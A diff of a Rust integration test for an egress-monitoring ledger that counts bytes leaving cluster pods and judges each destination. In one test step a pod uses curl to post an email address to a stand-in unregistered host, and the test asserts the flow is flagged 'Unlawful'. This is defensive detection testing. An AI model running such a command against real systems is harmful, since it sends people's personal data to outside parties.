@@ -2,7 +2,6 @@
 
 use std::{collections::BTreeMap, net::Ipv4Addr, time::Duration};
 
-use landfall_evidence::{Reader, RecordKind};
 use landfall_observation::{Endpoint, Local, decode};
 use landfall_tests::{
     cluster,
@@ -31,11 +30,14 @@ async fn the_ledger_holds_every_byte_that_left_the_pods() {
         .map(|(name, node)| Client::start(&story, name, node).unwrap());
     for (client, (_, host, _)) in std::iter::zip(&clients, PROVIDERS) {
         for _ in 0..3 {
-            let send = "head -c 20000 /dev/zero | curl -sk --retry 20 --retry-delay 1 --retry-all-errors --data-binary @-";
+            let send =
+                "head -c 20000 /dev/zero | curl -sk --retry 20 --retry-delay 1 --retry-all-errors --data-binary @-";
             client.run(&story, &format!("{send} -o /dev/null https://{host}/")).unwrap();
         }
     }
-    clients[2].run(&story, "curl -s -d email=jane.roe@example.org -o /dev/null http://collector.stranger.example/").unwrap();
+    clients[2]
+        .run(&story, "curl -s -d email=jane.roe@example.org -o /dev/null http://collector.stranger.example/")
+        .unwrap();
 
     let expected = || -> Sums {
         let counted = std::iter::zip(&clients, &providers).zip(PROVIDERS);
@@ -49,7 +51,11 @@ async fn the_ledger_holds_every_byte_that_left_the_pods() {
     story
         .wait_for("every byte in the ledger", || {
             let (expected, held) = (expected(), held(&story));
-            if expected == held { Ok(()) } else { Err(format!("the providers counted {expected:?}, the ledger holds {held:?}")) }
+            if expected == held {
+                Ok(())
+            } else {
+                Err(format!("the providers counted {expected:?}, the ledger holds {held:?}"))
+            }
         })
         .unwrap();
     for provider in &providers {
@@ -63,10 +69,9 @@ async fn the_ledger_holds_every_byte_that_left_the_pods() {
 
 /// What was judged says what the law says, and the sums of the judgments are those of the observations.
 fn judged_and_sealed(story: &Story) {
-    let ledger = story.ledger().display().to_string();
     let outcomes = story
         .wait_for("judgments", || {
-            let shown = story.landfall(&["ledger", "show", &ledger, "-o", "json"]).map_err(|error| error.to_string())?;
+            let shown = story.ledger("show", &["-o", "json"]).map_err(|error| error.to_string())?;
             let edges = shown.lines().map(|line| serde_json::from_str::<serde_json::Value>(line).unwrap());
             let outcome = |edge: &serde_json::Value| {
                 let text = |value: &serde_json::Value| value.as_str().unwrap_or_default().to_owned();
@@ -80,10 +85,9 @@ fn judged_and_sealed(story: &Story) {
     assert_eq!(outcomes["unregistered:stranger.example"], "Unlawful");
     assert!(outcomes.contains_key("openai") && outcomes.contains_key("twilio"), "{outcomes:?}");
 
-    let key = story.ledger().join("public-key.pem").display().to_string();
     story
         .wait_for("a sealed segment", || {
-            let verified = story.landfall(&["ledger", "verify", &ledger, "--public-key", &key, "-o", "json"]);
+            let verified = story.ledger("verify", &["-o", "json"]);
             let verified = verified.map_err(|error| error.to_string())?;
             if verified.contains("\"segments\":0") { Err(verified) } else { Ok(()) }
         })
@@ -110,10 +114,11 @@ fn nothing_was_forbidden(story: &Story) {
 /// The sums of the observations in the ledger.
 fn held(story: &Story) -> Sums {
     let mut sums = Sums::new();
-    let Ok(records) = Reader::open(&story.ledger()) else { return sums };
-    for record in records.kinds(&[RecordKind::Observation]).map_while(Result::ok) {
-        let observation = decode(&record.body).unwrap();
-        let (Local::Workload(workload), Endpoint::Address { address }) = (&observation.local, &observation.remote) else {
+    let Ok(lines) = story.ledger("export", &["--kind", "observation", "--body"]) else { return sums };
+    for line in lines.lines() {
+        let observation = decode(line).unwrap();
+        let (Local::Workload(workload), Endpoint::Address { address }) = (&observation.local, &observation.remote)
+        else {
             continue;
         };
         let provider = PROVIDERS.iter().find(|(_, _, at)| address.contains(&std::net::IpAddr::V4(*at)));
